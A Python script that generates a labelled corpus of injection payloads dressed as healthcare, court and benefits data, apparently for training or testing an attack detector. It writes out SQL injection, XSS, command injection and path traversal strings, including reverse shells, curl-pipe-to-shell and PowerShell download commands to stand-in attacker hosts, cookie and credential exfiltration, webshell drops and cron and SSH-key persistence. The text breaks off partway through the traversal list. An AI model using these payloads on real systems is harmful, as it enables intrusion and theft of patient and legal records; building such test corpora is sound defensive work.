#!/usr/bin/env python3
"""Write attacks.jsonl: attacks carried in healthcare, public-sector and legal text.

The benign corpus (make_benign.py) holds what a patient portal, an EHR API, a
pharmacy order system, a court e-filing service, a law firm's matter app and
a benefits form receive: clinical notes, HL7 v2 and FHIR, prescriptions,
patient messages, citations, docket entries, contract clauses, form answers,
DICOM and device metadata, claim and EOB lines.  The attacks below wear the
same clothes: an MRN, ICD-10 code or docket number concatenated into SQL, a
patient message or DICOM StudyDescription rendered without escaping, a scan
file name or fax number put on a shell line, an exhibit or report path joined
to a base directory, a FHIR server base URL or Subscription endpoint fetched
by the server, a reminder letter rendered by a server-side template engine,
a C-CDA upload parsed with external entities, Log4Shell in an HL7 field, a
claims export opened in a spreadsheet, a portal login passed to MongoDB, CR
or the HL7 segment separator in a field that ends up in a header, a mail, a
log line or an outbound HL7 message, and a clinician lookup concatenated into
an LDAP filter or an XPath over a C-CDA document.  About one value in ten is
a plain attack with no surrounding notation.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.  Attacker
hosts are reserved names and documentation addresses (attacker.example,
*.attacker.example, 203.0.113.0/24, 198.51.100.0/24); internal targets are
the real metadata, loopback, Kubernetes service and RFC 1918 addresses.
Passwords and tokens are fake placeholders.

Standard library only, deterministic (random.Random(2502)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2502)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()
LITERAL_COUNTS = {}


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def ps_enc(s):
    """PowerShell -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(s.encode("utf-16-le")).decode()


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def html_dec(s):
    return "".join("&#%d;" % ord(c) for c in s)


def take(cat, items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal in %s: %r" % (cat, v))
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals in %s (%d > %d)" % (cat, len(out), target))
    LITERAL_COUNTS[cat] = len(out)
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small for %s" % cat)
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK = ["attacker.example", "203.0.113.41", "198.51.100.23", "exfil.attacker.example", "203.0.113.9", "c2.attacker.example"]


# ====================================================================== sqli
def sqli():
    lit = [
        ("mrn-search-union-ssn", "MRN004512' UNION SELECT ssn, date_of_birth, NULL FROM patients--"),
        ("patient-name-search-or-tautology", "Nguyen' OR 'x'='x"),
        ("icd10-lookup-union-pg-shadow", "E11.9' UNION SELECT usename, passwd FROM pg_shadow--"),
        ("ndc-lookup-stacked-xp-cmdshell", "00002-1433-80'; EXEC master..xp_cmdshell 'powershell -c \"iwr http://203.0.113.41/p.ps1 | iex\"';--"),
        ("dob-filter-mysql-sleep", "1957-03-14' AND SLEEP(6) AND '1'='1"),
        ("lab-results-sort-case-blind", "(CASE WHEN (SELECT substr(password_hash,1,1) FROM staff WHERE username='admin')='$' THEN collected_at ELSE mrn END)"),
        ("claim-number-extractvalue-error", "A2406110123' AND extractvalue(1,concat(0x7e,(SELECT concat(user,0x3a,authentication_string) FROM mysql.user LIMIT 1)))-- -"),
        ("prescriber-npi-pg-cast-error", "1234567893 AND 1=CAST((SELECT string_agg(npi||':'||dea_number, ',') FROM prescribers) AS int)"),
        ("docket-search-oracle-utl-http", "24-1187' || UTL_HTTP.REQUEST('http://exfil.attacker.example/'||(SELECT password FROM sys.user$ WHERE name='SYS')) || '"),
        ("sealed-case-lookup-mssql-waitfor", "CV-23-04512'; IF (SELECT COUNT(*) FROM sealed_documents WHERE case_no LIKE 'JV%')>0 WAITFOR DELAY '0:0:7'--"),
        ("case-number-mssql-substring-blind", "1:24-cv-00812' AND ASCII(SUBSTRING((SELECT TOP 1 pwd_hash FROM clerk_accounts),1,1))>77--"),
        ("mobile-app-sqlite-master-union", "x' UNION SELECT name, sql, 3 FROM sqlite_master--"),
        ("npi-numeric-or-true", "1234567893 OR 1=1"),
        ("hl7-pid-name-insert-subquery", "PID|1||MRN7^^^UCMC^MR||DOE^JOHN'),('MRN8',(SELECT group_concat(ssn) FROM patients))-- -"),
        ("fhir-code-param-sql-or", "Observation?code=2345-7' OR '1'='1'--&patient=8842"),
        ("portal-feedback-insert-role-update", "great visit'); UPDATE portal_users SET role='admin' WHERE email='mallory@attacker.example';--"),
        ("provider-username-second-order-comment", "drkim'-- "),
        ("rx-number-union-cards+urlenc", q("4481223 UNION SELECT card_number,cvv,NULL FROM payment_methods-- -")),
        ("icd10-lookup-comments-as-spaces+sql-comments", "I10'/**/UNION/**/SELECT/**/username,/**/password/**/FROM/**/users--"),
        ("lab-code-filter-union-columns+mixed-case", "2345-7' uNiOn SeLeCt table_name, column_name FrOm information_schema.columns-- -"),
        ("zip-search-versioned-comment+mysql-comment", "62704' /*!50000UNION*/ /*!50000SELECT*/ email, password_hash FROM users-- -"),
        ("report-filter-pg-copy-to-program", "x'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.41/$(hostname)';--"),
        ("document-search-mssql-xp-dirtree-oob", "'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\share';--"),
        ("scan-notes-mysql-into-outfile-webshell", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/uploads/n.php'-- -"),
        ("appointment-slot-pg-sleep-subquery", "2024-06-18' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
        ("appointment-slot-pg-superuser-conditional-sleep", "2024-06-19' AND 1=(CASE WHEN current_setting('is_superuser')='on' THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)--"),
        ("eob-adjustment-filter-oracle-all-users", "PR-1' UNION SELECT username, NULL, NULL FROM all_users WHERE ROWNUM < 50--"),
        ("benefits-case-number-or-offset", "SNAP-2024-0047781' OR 'a'='a' ORDER BY 1 LIMIT 1 OFFSET 3-- -"),
        ("lab-sort-stacked-pg-sleep", "collected_at; SELECT pg_sleep(10)--"),
        ("patient-id-double-query-error", "8842 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
        ("referral-note-mysql-load-file-unc-oob", "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.exfil.attacker.example\\\\a')),2-- -"),
        ("dicom-patientid-pg-dollar-quote", "MRN004512' UNION SELECT $$x$$, current_setting($$data_directory$$)--"),
        ("claim-notes-mssql-char-exec", "x'; DECLARE @c varchar(200)=CHAR(119)+CHAR(104)+CHAR(111)+CHAR(97)+CHAR(109)+CHAR(105); EXEC xp_cmdshell @c;--"),
        ("surname-search-backslash-escape-bypass", "O\\' OR 1=1-- -"),
        ("message-fulltext-match-against-breakout", "chest pain') OR 1=1 OR MATCH(body) AGAINST('x"),
        ("german-date-filter-union", "01.01.2024' UNION SELECT versichertennummer, name FROM versicherte-- -"),
        ("member-search-gbk-multibyte-quote+urlenc", "%bf%27%20OR%201=1--%20-"),
        ("dicom-patientid-pg-concat-sleep", "MRN004512'||(SELECT CASE WHEN current_user='postgres' THEN pg_sleep(5)::text ELSE '' END)||'"),
        ("cpt-in-list-close-paren-union", "99213','99214') UNION SELECT login, pw_hash, 1 FROM billing_users-- -"),
        ("provider-search-between-no-equals", "Patel' OR 2 BETWEEN 1 AND 3-- -"),
        ("lab-code-newlines-as-spaces+newline", "2345-7'\nUNION\nSELECT\nusername,\npassword\nFROM\nusers--"),
        ("clinician-search-fullwidth-quote+fullwidth", "Kim＇ OR １＝１--"),
        ("contract-clause-search-like-blind", "%' AND (SELECT substring(api_key,1,1) FROM integrations LIMIT 1)='s' AND '%'='"),
        ("matter-id-numeric-union", "0 UNION SELECT client_name, ssn FROM clients"),
        ("chart-audit-insert-values-breakout", "viewed chart', NOW()); INSERT INTO admins (login, pw) VALUES ('ghost', 'FAKE-not-a-password'); --"),
        ("sort-param-oracle-divide-by-zero-blind", "lastname,(SELECT CASE WHEN (SUBSTR(USER,1,1)='S') THEN 1/0 ELSE 1 END FROM dual)"),
        ("mrn-lookup-mssql-stacked-create-login", "MRN1'; CREATE LOGIN backdoor WITH PASSWORD='FAKE-Passw0rd!'; EXEC sp_addsrvrolemember 'backdoor','sysadmin';--"),
        ("lab-report-pg-read-file", "x' UNION SELECT pg_read_file('/etc/passwd'), NULL--"),
        ("pharmacy-app-sqlite-attach-webshell", "x'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t (c text); INSERT INTO p.t VALUES ('<?php system($_GET[0]); ?>');--"),
        ("provider-surname-mysql-benchmark", "Haddad' AND BENCHMARK(8000000,SHA1('x'))-- -"),
        ("ehr-jpql-subquery-blind", "x' and (select count(p) from Patient p where p.ssn like '1%')>0 and '1'='1"),
        ("json-body-mrn-or-true", "{\"mrn\":\"MRN004512' OR 1=1-- -\",\"includeInactive\":true}"),
        ("eligibility-member-id-union", "XYZ123456789' UNION SELECT member_id, ssn, dob FROM members--"),
        ("court-party-name-oracle-dbms-pipe", "Gómez' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',7)--"),
        ("record-id-mssql-convert-error", "1' AND 1=CONVERT(int,(SELECT TOP 1 name+':'+CONVERT(varchar(200),password_hash,1) FROM sys.sql_logins))--"),
        ("icd10-lookup-updatexml-error", "' AND updatexml(null,concat(0x2e,(SELECT group_concat(table_name) FROM information_schema.tables WHERE table_schema=database())),null)-- -"),
        ("report-filter-pg-udf-libc-system", "x'; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE c STRICT; SELECT sys('id > /tmp/o');--"),
        ("attachment-lookup-load-file+hex", "' UNION SELECT 1, LOAD_FILE(0x%s)-- -" % "/etc/passwd".encode().hex()),
        ("claim-status-or-true+double-urlenc", q(q("' OR 1=1-- -"))),
        ("claims-search-mssql-openrowset-exfil", "'; INSERT INTO OPENROWSET('SQLOLEDB','server=198.51.100.23;uid=x;pwd=FAKEpw','SELECT * FROM loot') SELECT ssn, dob FROM patients;--"),
        ("pharmacy-login-hash-comment", "admin'#"),
        ("nurse-search-comment-spaces-like+sql-comments", "'/**/OR/**/1/**/LIKE/**/1#"),
        ("lab-filter-tabs-as-spaces+tab", "x'\tUNION\tALL\tSELECT\tnull,concat(login,0x3a,pw)\tFROM\tusers-- -"),
        ("patient-id-pg-ascii-blind", "8842 AND ascii(substr((SELECT token FROM api_tokens LIMIT 1),1,1))>100"),
        ("hl7-obx-value-insert-breakout", "OBX|1|NM|2345-7^Glucose^LN||182', 'F'); DELETE FROM lab_results WHERE mrn='MRN004512'; --|mg/dL"),
        ("x12-subscriber-name-union", "NM1*IL*1*NGUYEN' UNION SELECT subscriber_id, ssn FROM subscribers--*THANH~"),
        ("plain-sqli-union-nulls", "' UNION SELECT NULL,NULL,NULL--"),
        ("plain-sqli-or-true", "' OR 1=1--"),
        ("plain-sqli-stacked-drop", "1; DROP TABLE patients--"),
        ("plain-sqli-mysql-sleep", "1' AND SLEEP(5)#"),
        ("plain-sqli-mssql-waitfor", "';WAITFOR DELAY '0:0:5'--"),
        ("plain-sqli-double-quote-or", "\" OR \"\"=\""),
        ("plain-sqli-admin-comment", "admin'--"),
    ]
    ctxs = [("mrn-search", "MRN%06d" % RNG.randint(1, 999999)), ("patient-name-search", "García"),
            ("docket-search", "1:24-cv-00%d" % RNG.randint(100, 999)), ("claim-lookup", "A24061%05d" % RNG.randint(0, 99999))]
    users = ["admin", "drkim", "clerk01", "pharm_lead", "sysadmin"]

    def gen():
        c, base = pick(ctxs)
        return c + "-substring-blind", "%s' AND SUBSTRING((SELECT password_hash FROM users WHERE username='%s'),%d,1)='%s'-- -" % (
            base, pick(users), RNG.randint(1, 60), pick("abcdef0123456789$"))
    return take("sqli", lit, gen, 78)


# ====================================================================== xss
def xss():
    lit = [
        ("patient-message-img-onerror-cookie", "Hi Dr. Patel, my BP is 150/95 <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
        ("appointment-reason-svg-onload", "Follow-up <svg onload=alert(document.domain)>"),
        ("portal-display-name-script-token", "Siobhán<script>new Image().src='//exfil.attacker.example/t?'+localStorage.getItem('access_token')</script>"),
        ("docket-entry-text-iframe-srcdoc", "ORDER granting 51 Motion <iframe srcdoc=\"<script>parent.location='https://attacker.example/'+parent.document.cookie</script>\"></iframe>"),
        ("dicom-study-description-details-ontoggle", "CT CHEST W/O <details open ontoggle=\"import('//attacker.example/x.js')\">"),
        ("hl7-obx-value-script-src", "OBX|1|ST|5778-6^Color of Urine^LN||<script src=https://attacker.example/u.js></script>||||||F"),
        ("fhir-narrative-div-onmouseover", "{\"resourceType\":\"Condition\",\"text\":{\"status\":\"generated\",\"div\":\"<div xmlns=\\\"http://www.w3.org/1999/xhtml\\\" onmouseover=\\\"fetch('//attacker.example/n?'+document.cookie)\\\">Hypertension</div>\"}}"),
        ("uploaded-filename-img-onerror", "scan_<img src=1 onerror=alert(1)>.pdf"),
        ("clinician-note-attribute-breakout-autofocus", "\" autofocus onfocus=\"fetch('//attacker.example/?'+document.cookie)"),
        ("note-preview-js-string-breakout", "';fetch('//attacker.example/k?'+document.cookie);//"),
        ("provider-website-javascript-url", "javascript:fetch('//attacker.example/?c='+document.cookie)"),
        ("discharge-markdown-link-javascript", "See [discharge instructions](javascript:alert(document.cookie))"),
        ("insurance-card-svg-upload-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://attacker.example/s',{method:'POST',body:document.cookie})</script></svg>"),
        ("portal-angularjs-template-constructor", "{{constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')()}}"),
        ("portal-angularjs-on-constructor", "Dear team, {{$on.constructor('alert(document.domain)')()}}"),
        ("message-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("case-title-title-breakout", "Doe v. Roe</title><script>alert(document.domain)</script>"),
        ("appeal-text-textarea-breakout", "I disagree with the denial</textarea><img src=x onerror=alert(1)>"),
        ("message-meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://portal-login.attacker.example/\">"),
        ("message-base-href-hijack", "<base href=\"https://attacker.example/\">"),
        ("message-form-credential-harvest", "Your session expired.<form action=https://attacker.example/login method=post><input name=password type=password placeholder='Re-enter portal password'><button>Continue</button></form>"),
        ("video-source-onerror-eval+base64", "<video><source onerror=\"eval(atob('%s'))\"></video>" % b64("fetch('//attacker.example/?'+document.cookie)")),
        ("contract-body-onpageshow", "<body onpageshow=alert(document.cookie)>"),
        ("benefits-comment-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
        ("lab-link-data-uri+base64", "<a href=\"data:text/html;base64,%s\">View lab PDF</a>" % b64("<script>alert(document.domain)</script>")),
        ("exhibit-object-data-javascript", "<object data=\"javascript:alert(1)\"></object>"),
        ("message-mathml-xlink-javascript", "<math><mtext><a xlink:href=\"javascript:alert(1)\">open</a></mtext></math>"),
        ("message-style-import-css-exfil", "<style>@import 'https://attacker.example/css?x';</style>"),
        ("portal-link-javascript-decimal-entities+html-entities", "<a href=\"%salert(1)\">portal</a>" % html_dec("javascript:")),
        ("img-onerror-js-unicode-escape+js-unicode", "<img src=x onerror=\"\\u0061lert(document.domain)\">"),
        ("results-link-tab-in-scheme+tab", "<a href=\"java\tscript:alert(1)\">Results</a>"),
        ("referral-note-script+mixed-case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
        ("search-reflected-script+urlenc", q("<script>alert(document.domain)</script>")),
        ("search-reflected-svg+double-urlenc", q(q("<svg/onload=alert(1)>"))),
        ("hl7-nte-comment-onerror", "NTE|1|L|Specimen hemolyzed <img src=x onerror=this.src='//attacker.example/h?'+document.cookie>"),
        ("docket-party-name-form-action-hijack", "JANE DOE<script>document.forms[0].action='https://attacker.example/efile'</script>"),
        ("contract-redline-comment-iframe-javascript", "replace 'best efforts' <iframe src=\"javascript:alert(document.domain)\"></iframe>"),
        ("benefits-address-svg-animate-onbegin", "123 Main St <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("claim-appeal-onanimationstart", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(document.cookie)\">appeal</div>"),
        ("imaging-share-link-javascript-comment", "javascript:/*https://images.example-radiology.com/share/*/fetch('//attacker.example/'+document.cookie)"),
        ("portal-dom-hash-sink", "#<img src=x onerror=alert(document.domain)>"),
        ("fhir-json-in-script-breakout", "</script><script>alert(document.domain)</script>"),
        ("patient-name-dangling-markup", "Nguyen<img src='https://attacker.example/collect?html="),
        ("report-svg-set-href", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text y=\"20\">open report</text></a></svg>"),
        ("message-keylogger-onerror", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
        ("message-audio-onerror", "<audio src=x onerror=alert(document.cookie)>"),
        ("message-iframe-onload-top-nav", "<iframe onload=\"top.location='https://attacker.example/phish'\"></iframe>"),
        ("benefits-employer-select-autofocus", "O'Hara Diner<select autofocus onfocus=alert(1)>"),
        ("matter-note-textarea-autofocus", "<textarea autofocus onfocus=alert(document.domain)>"),
        ("fhir-code-text-svg", "{\"resourceType\":\"Observation\",\"code\":{\"text\":\"<svg/onload=alert(document.domain)>\"},\"status\":\"final\"}"),
        ("device-name-svg-template-literal-call", "MX-450<svg/onload=alert`1`>"),
        ("message-html-comment-breakout", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
        ("results-link-newline-in-scheme+newline", "<a href=\"javascript\n:alert(1)\">x</a>"),
        ("portal-link-hex-entity-colon+html-entities", "<a href=\"javascript&#x3A;alert(document.cookie)\">results</a>"),
        ("message-srcdoc-entity-encoded+html-entities", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
        ("message-jquery-getscript", "<img src=x onerror=$.getScript('//attacker.example/j.js')>"),
        ("discharge-markdown-html-passthrough", "**Allergies:** PCN\n\n<img src=x onerror=alert(document.cookie)>"),
        ("patient-message-multiline-script-exfil", "Hello,\nplease see below\n<script>\nfetch('/api/messages').then(r=>r.text()).then(t=>fetch('https://attacker.example/m',{method:'POST',body:t}))\n</script>"),
        ("form-field-single-quote-attr-breakout", "' onmouseover='alert(document.cookie)' x='"),
        ("unquoted-attr-breakout-onmouseover", "x onmouseover=alert(1)"),
        ("provider-website-javascript+mixed-case", "JaVaScRiPt:alert(document.domain)"),
        ("exhibit-iframe-data-url", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
        ("ccda-section-title-script", "<title>Medications<script>alert(document.cookie)</script></title>"),
        ("docket-entry-marquee-onstart", "Minute Entry <marquee onstart=alert(document.domain)>status</marquee>"),
        ("pharmacy-note-img-onerror-post-orders", "Deliver to front desk <img src=x onerror=\"fetch('/api/orders',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({rx:'oxycodone 30mg',qty:240,shipTo:'attacker.example'})})\">"),
        ("message-spanish-svg", "Hola doctora, ¿puedo tomar el antibiótico? <svg onload=alert(document.cookie)>"),
        ("message-japanese-img", "検査結果を見ました<img src=x onerror=alert(document.domain)>"),
        ("plain-xss-script-alert", "<script>alert(1)</script>"),
        ("plain-xss-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-xss-svg-onload", "<svg onload=alert(1)>"),
        ("plain-xss-attr-breakout-script", "\"><script>alert(1)</script>"),
        ("plain-xss-body-onload", "<body onload=alert('XSS')>"),
        ("plain-xss-iframe-javascript", "<iframe src=javascript:alert(1)>"),
        ("plain-xss-javascript-url", "javascript:alert(document.cookie)"),
    ]
    ctx = [("patient-message", "Hi Dr. Kim, "), ("docket-entry", "NOTICE of Appearance "), ("dicom-series-description", "AX T2 FLAIR "),
           ("eob-line", "99214 billed $285.00 "), ("benefits-comment", "My hours were cut ")]
    tags = [("img", "src=x onerror"), ("svg", "onload"), ("video", "src=x onerror"), ("body", "onload"), ("input", "autofocus onfocus"),
            ("details", "open ontoggle")]
    sinks = ["alert(document.cookie)", "fetch('//attacker.example/?'+document.cookie)", "location='//attacker.example/'+document.cookie",
             "navigator.sendBeacon('//exfil.attacker.example',localStorage.token)"]

    def gen():
        c, pre = pick(ctx)
        t, h = pick(tags)
        return "%s-%s-handler" % (c, t), "%s<%s %s=\"%s\">" % (pre, t, h, pick(sinks))
    return take("xss", lit, gen, 78)


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("dicom-convert-filename-semicolon-curl-sh", "IM-0003-0142.dcm; curl -s http://203.0.113.41/d.sh | sh"),
        ("pdf-export-filename-subshell", "discharge_$(id>/tmp/.x).pdf"),
        ("fax-number-backticks-wget", "+15550102234`wget -qO- http://attacker.example/f|sh`"),
        ("modality-echo-host-and-shadow-nc", "10.40.12.31 && cat /etc/shadow | nc 198.51.100.23 4444"),
        ("hl7-listener-host-or-reverse-shell", "nonexistent.invalid || bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
        ("lab-printer-queue-pipe-upload", "LAB_PRINTER_4W | curl -T /etc/passwd http://exfil.attacker.example/"),
        ("scanned-doc-imagemagick-pipe-filename", "|curl http://203.0.113.41/im.sh|sh"),
        ("records-zip-name-newline", "records_2024\nwget http://attacker.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"),
        ("case-folder-mkdir-semicolon-rm", "2024-CV-001873;rm -rf /srv/efiling/cases"),
        ("ocr-language-param-semicolon-python", "eng+spa; python3 -c 'import os;os.system(\"id\")'"),
        ("av-scan-upload-name-subshell", "lab_results$(curl -s attacker.example/c|sh).pdf"),
        ("mail-recipient-sendmail-x-log", "nurse@school.example.org -X/var/www/html/log.php"),
        ("clearinghouse-sftp-host-proxycommand+ifs", "-oProxyCommand=curl${IFS}http://203.0.113.41/s|sh clearinghouse.example"),
        ("records-backup-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /srv/uploads/x.sh"),
        ("pacs-sync-rsync-remote-shell-arg", "-e sh -c 'curl http://attacker.example/r|sh' x:/"),
        ("attachment-fetch-curl-output-arg", "https://attacker.example/shell.php -o /var/www/html/portal/s.php"),
        ("wkhtmltopdf-title-double-quote-break", "Discharge Summary\" ; nc -e /bin/sh 198.51.100.23 9001 ; \""),
        ("pdftk-merge-input-single-quote-break", "Ex_C.pdf' 'x'; touch /tmp/pwned; echo '"),
        ("windows-fax-number-ampersand-powershell", "5550102234 & powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.41/a.ps1')\""),
        ("windows-printer-pipe-certutil", "PRN-4W | certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe && %TEMP%\\p.exe"),
        ("windows-export-name-ampersand+caret", "x & p^o^w^e^r^s^h^e^l^l -c whoami > C:\\inetpub\\wwwroot\\w.txt"),
        ("dicom-study-file-cat-passwd+ifs", "study.dcm;cat${IFS}/etc/passwd${IFS}>${IFS}/var/www/html/p.txt"),
        ("scan-name-quote-splitting+quote-split", "scan.dcm;w'h'o'a'm'i;c\"a\"t /e't'c/pa\"ss\"wd"),
        ("scan-name-backslash-splitting+backslash", "x;w\\ho\\am\\i;/b\\in/c\\at /et\\c/sh\\adow"),
        ("scan-name-glob-path+glob", "x;/???/c?t /e??/p?ss??"),
        ("scan-name-brace-expansion+brace", "x;{cat,/etc/passwd}"),
        ("report-name-base64-pipe+base64", "x;echo %s|base64 -d|sh" % b64("curl -s http://203.0.113.41/b|sh")),
        ("report-name-printf-hex+hex", "x;$(printf '\\x69\\x64')"),
        ("report-name-dollar-at-splitting+var-split", "x;wh$@oami;ca$@t /et$@c/hos$@tname"),
        ("dicom-filename-semicolon+urlenc", q("IM-0001.dcm;id;uname -a")),
        ("modality-host-newline+urlenc", "10.40.12.31%0aid%0auname%20-a"),
        ("legacy-perl-report-open-pipe", "cat /etc/passwd|"),
        ("lab-log-filter-awk-system", "0 { system(\"curl -s http://attacker.example/a | sh\") }"),
        ("hl7-mapping-sed-e-command", "1e curl -s http://203.0.113.9/s|sh"),
        ("pacs-cleanup-find-exec-arg", "*.dcm -exec sh -c 'curl attacker.example/f|sh' ;"),
        ("records-zip-tt-arg", "records.zip -T -TT 'sh -c id>/tmp/z'"),
        ("portal-cgi-user-agent-shellshock", "() { :; }; /bin/bash -c 'curl http://203.0.113.41/ss|sh'"),
        ("device-discovery-nmap-args", "10.40.12.0/24 -iL /etc/shadow -oN /var/www/html/s.txt"),
        ("device-ping-count-semicolon-nc", "4;nc 203.0.113.9 4444 -e /bin/sh"),
        ("storescu-ae-title-backticks", "CT_SCANNER_2`id`"),
        ("echoscu-port-subshell-sleep", "104$(sleep 10)"),
        ("accession-number-time-blind-sleep", "ACC24061100123;sleep 15;"),
        ("hl7-export-name-windows-type-winini", "ADT77812.hl7 & type C:\\Windows\\win.ini"),
        ("windows-report-name-powershell-enc+base64", "x & powershell -enc %s" % ps_enc("iwr http://203.0.113.41/r.ps1 -UseBasicParsing | iex")),
        ("windows-report-name-set-call+var-split", "x & set c=who& set d=ami& call %c%%d%"),
        ("court-filer-name-dns-exfil-subshell", "$(nslookup $(whoami).exfil.attacker.example)"),
        ("case-number-dig-exfil", "x;dig +short $(cat /etc/hostname).exfil.attacker.example"),
        ("sms-reminder-cron-schedule-newline", "0 8 * * *\n* * * * * root curl -s http://attacker.example/c|sh"),
        ("letter-convert-pandoc-lua-filter-arg", "--lua-filter=/srv/uploads/f.lua"),
        ("letter-convert-libreoffice-and", "letter.docx && curl -d @/etc/passwd http://exfil.attacker.example/"),
        ("pacs-tunnel-host-local-command-arg", "-oPermitLocalCommand=yes -oLocalCommand=id pacs-nas01"),
        ("device-capture-tcpdump-z-arg", "-z /tmp/x.sh -G 1 -w /tmp/c"),
        ("photo-metadata-exiftool-trailing-pipe", "curl attacker.example/e.sh|sh|"),
        ("german-befund-name-semicolon", "Befund_Müller.pdf; curl -s http://attacker.example/m | sh"),
        ("japanese-result-name-subshell", "検査結果_$(curl -s 203.0.113.9/j|sh).pdf"),
        ("rx-label-printer-env-exfil", "x; curl -s -d \"$(env)\" https://exfil.attacker.example/e"),
        ("imaging-job-name-imds-exfil-backticks", "x`curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- http://attacker.example`"),
        ("fax-cover-name-process-substitution", "x;bash <(curl -s http://attacker.example/ps)"),
        ("fax-cover-name-here-string", "x;bash<<<$(curl -s attacker.example/h)"),
        ("efiling-pdf-name-semicolon-crontab", "brief.pdf; (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/k|sh') | crontab -"),
        ("dicom-anonymize-tag-semicolon-ssh-key", "0010,0010;echo 'ssh-ed25519 AAAAFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
        ("hl7-archive-name-ampersand-background", "ADT_20240611.hl7 & python3 -m http.server 8000 --directory / &"),
        ("plain-cmdi-semicolon-id", ";id"),
        ("plain-cmdi-pipe-cat-passwd", "| cat /etc/passwd"),
        ("plain-cmdi-subshell-whoami", "$(whoami)"),
        ("plain-cmdi-backtick-uname", "`uname -a`"),
        ("plain-cmdi-and-ls-root", "&& ls -la /"),
        ("plain-cmdi-windows-dir", "& dir C:\\"),
        ("plain-cmdi-newline-id", "\nid\n"),
    ]
    ctx = [("dicom-filename", "IM-%04d-%04d.dcm" % (RNG.randint(1, 20), RNG.randint(1, 300))), ("fax-number", "+1555010%04d" % RNG.randint(0, 9999)),
           ("modality-host", "10.40.12.%d" % RNG.randint(2, 250)), ("case-folder", "2024-CV-%06d" % RNG.randint(1, 999999)),
           ("rx-label-name", "RX%07d" % RNG.randint(1, 9999999))]
    seps = [("semicolon", ";%s"), ("and", " && %s"), ("or", " || %s"), ("pipe", " | %s"), ("subshell", "$(%s)"), ("backticks", "`%s`"), ("newline", "\n%s")]
    cmds = ["curl -s http://%s/x|sh" % pick(ATK), "wget -qO- http://%s/y|sh" % pick(ATK), "nc %s 4444 -e /bin/sh" % pick(ATK[1:3]),
            "id>/tmp/.o", "cat /etc/shadow", "sleep 12"]

    def gen():
        c, base = pick(ctx)
        s, fmt = pick(seps)
        return "%s-%s" % (c, s), base + fmt % pick(cmds)
    return take("cmdi", lit, gen, 74)


# ====================================================================== traversal
def traversal():
    lit = [
        ("scan-download-dotdot-passwd", "../../../../../../etc/passwd"),
        ("dicom-retrieve-path-dotdot-shadow", "/mnt/pacs/archive/../../../etc/shadow"),
        ("report-template-name-dotdot-env", "../../../../srv/portal/.env"),
        ("exhibit-attachment-windows-dotdot-winini", "..\\..\\..\\..\\Windows\\win.ini"),
        ("records-zip-entry-zip-slip-jsp", "../../../../var/www/html/portal/uploads/cmd.jsp"),
        ("letter-language-include-proc-environ", "../../../../proc/self/environ"),
        ("log-viewer-absolute-ssh-key", "/root/.ssh/id_rsa"),
        ("fhir-binary-path-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("pacs-viewer-tomcat-path-param+semicolon", "/viewer/..;/manager/html"),
        ("exhibit-download-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
